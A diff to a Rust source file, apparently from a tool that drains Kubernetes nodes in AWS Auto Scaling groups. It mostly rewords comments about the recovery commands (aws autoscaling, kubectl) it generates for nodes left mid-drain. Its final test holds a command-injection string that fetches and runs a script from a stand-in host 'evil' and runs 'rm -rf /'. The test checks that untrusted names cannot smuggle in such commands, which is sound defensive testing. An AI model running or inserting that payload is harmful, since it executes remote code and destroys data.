@@ -18,22 +18,22 @@ use crate::cluster::node::NodeFacts;
 use crate::records::claim::Phase;
 use crate::restore::sweep::OWN_TAGS;
 
-/// What is left of us on a node.
+/// The traces of an execution that are left on a node.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct LeftBehind {
-    /// What state the node is in, one sentence.
+    /// The state of the node, in one sentence.
     pub state: String,
-    /// Commands that put it back, in order; empty if nothing of ours is left.
+    /// Commands for a person, in order: they put the node back, or end an instance that is lost. Empty if there is nothing to do.
     pub commands: Vec<String>,
-    /// Another execution can go on from here instead.
+    /// True if another execution can go on from here instead.
     pub can_be_resumed: bool,
-    /// Nothing of it is worth being put back: it is gone, dead or lost.
+    /// True if the node is not worth being put back: it is gone, dead or lost, or its group is terminating it.
     pub is_lost: bool,
 }
 
-/// Whether an execution that holds claims in these phases has touched nothing, so that releasing its claim puts all back. A member
-/// that is in service in the phase Standby is one whose EnterStandby, recorded beforehand, was refused, or that somebody brought
-/// back, which leads through Pending.
+/// Checks whether an execution that holds claims in these phases has touched nothing, so that releasing its claim restores all.
+/// A member may be in service in the phase Standby. Then EnterStandby, which is recorded beforehand, was refused,
+/// or a person or another tool brought the member back, which leads through Pending.
 #[must_use]
 pub fn is_untouched(phases: &[Phase], lifecycle_state: Option<&str>) -> bool {
     let touched_nothing = phases.iter().all(|phase| match phase {
@@ -44,8 +44,8 @@ pub fn is_untouched(phases: &[Phase], lifecycle_state: Option<&str>) -> bool {
         && lifecycle_state.is_some_and(|state| state == "InService" || state.starts_with("Pending"))
 }
 
-/// Says what is left, from the records and from what is there now. Of a node that is lost (its Node is gone, or not Ready for too long)
-/// nothing is worth being put back.
+/// Describes what is left, from the records and from what is there now.
+/// `is_lost` means that its Node is gone, or not Ready for too long: such a node is not worth being put back.
 #[must_use]
 pub fn describe_left_behind(
     instance_id: &InstanceId,
@@ -82,7 +82,7 @@ pub fn describe_left_behind(
     }
 }
 
-/// What is left of what is not worth being put back; none if it is worth it.
+/// Describes what is left of a node that is not worth being put back; None if it is worth it.
 fn describe_lost(
     subject: &str,
     id: &InstanceId,
@@ -90,7 +90,7 @@ fn describe_lost(
     instance: Option<&Instance>,
     is_lost: bool,
 ) -> Option<LeftBehind> {
-    // Ends a member by its group's own API, which fills its place if that counts.
+    // Ends a member by its group's own API. The group fills its place if the member counts towards the desired capacity.
     let terminate = format!(
         "aws autoscaling terminate-instance-in-auto-scaling-group --instance-id {id} \
          --no-should-decrement-desired-capacity"
@@ -98,12 +98,13 @@ fn describe_lost(
     let (state, command) = match (lifecycle_state, instance) {
         (None, Some(instance)) if !instance.is_gone() => return None,
         (None, _) => ("is gone".to_owned(), None),
-        // The group checks no health in Standby: it lists a dead member there until it is told. Anywhere else it sees for itself.
+        // The group checks no health in Standby: it lists a dead member there until a call ends it. In any other state it finds out
+        // itself.
         (Some(listed), Some(dead)) if dead.is_gone() => {
             let state = format!("is {}, and its group still lists it as {listed}", dead.state);
             (state, (listed == "Standby").then_some(terminate))
         }
-        // It runs without its Node, or without a kubelet that answers: its pods are lost, and the group cannot see that.
+        // The instance runs without its Node, or without a kubelet that answers. Its pods are lost, and the group cannot see that.
         (Some(listed), Some(lost)) if is_lost => {
             let state = format!(
                 "is lost, its instance is {} and {listed} in its group",
@@ -111,7 +112,7 @@ fn describe_lost(
             );
             (state, Some(terminate))
         }
-        // Its group is terminating it: there is no way back, and nothing to take away.
+        // Its group is terminating the instance: there is no way back, and nothing to take away.
         (Some(listed), _) if is_held(lifecycle_state) => {
             let state = format!(
                 "is {listed} in its group, runs, and keeps its taint; without its tag {GAVE_UP_TAG} the next sweep goes on with it"
@@ -128,7 +129,8 @@ fn describe_lost(
     })
 }
 
-/// From Standby only with the record of who was a member before; without a Node there is nothing to drain.
+/// Checks whether another execution can go on.
+/// From Standby it can only with the record of the former members. Without a Node there is nothing to drain.
 fn can_be_resumed(lifecycle_state: Option<&str>, node: Option<&NodeFacts>) -> bool {
     let has_record = node.and_then(|node| node.record().ok());
     has_record.is_some_and(|record| match lifecycle_state {
@@ -193,8 +195,9 @@ fn look_at_standby(
     found.commands.extend(exit_standby(&name, instance_id, exposed));
 }
 
-/// With ExitStandby a group may end any member, as its zones are out of balance: `exposed` are protected meanwhile. One call for each, as
-/// a call that names a member which has left is refused whole.
+/// Returns the commands of ExitStandby.
+/// At that call a group with unbalanced zones may end any member, so `exposed` members are protected meanwhile.
+/// Each member has its own call, because AWS refuses a whole call that names a member which has left.
 fn exit_standby(group: &str, id: &InstanceId, exposed: Vec<InstanceId>) -> Vec<String> {
     let exit = format!("aws autoscaling exit-standby --auto-scaling-group-name {group} --instance-ids {id}");
     if exposed.is_empty() {
@@ -238,7 +241,7 @@ fn look_at_node(node: &NodeFacts, found: &mut Found) {
         let command = format!("kubectl taint node {name} {DRAINING_TAINT}:NoSchedule-");
         found.add(&format!("has the taint {DRAINING_TAINT}"), command);
     }
-    // Only a cordon that was set with our taint is ours: one that was there before it stays.
+    // Only a cordon that was set with the draining taint is the execution's: one that was there before it stays.
     if node.unschedulable && record.tainted_at.is_some() && !record.was_unschedulable {
         found.add("is cordoned", format!("kubectl uncordon {name}"));
     }
@@ -254,7 +257,7 @@ fn look_at_node(node: &NodeFacts, found: &mut Found) {
         let command = format!("kubectl annotate node {name} {change}");
         found.add("is kept from Cluster Autoscaler", command);
     }
-    // The end of a drain that is over would end the next one at once.
+    // An annotation with the end of a drain that is over would end the next drain at once.
     let annotations: String = [
         CLAIM_ANNOTATION,
         RECORD_ANNOTATION,
@@ -324,7 +327,7 @@ mod tests {
         }
     }
 
-    /// A node as it is in the middle of a drain.
+    /// A node in the middle of a drain.
     fn draining(record: &Record) -> NodeFacts {
         let mut node = claimed(node("old"), Phase::Draining, record);
         node.annotations
@@ -648,7 +651,7 @@ mod tests {
         assert_eq!(in_both(&alone).len(), 2, "it is one that may be chosen, too");
     }
 
-    /// A kubelet writes any annotation on its own Node, and whoever makes a group chooses its name.
+    /// A kubelet writes any annotation on its own Node, and an operator who creates a group chooses its name.
     #[test]
     fn what_others_wrote_stays_one_word_of_a_command() {
         let attack = "x$(curl -s evil|sh)'; rm -rf / #";
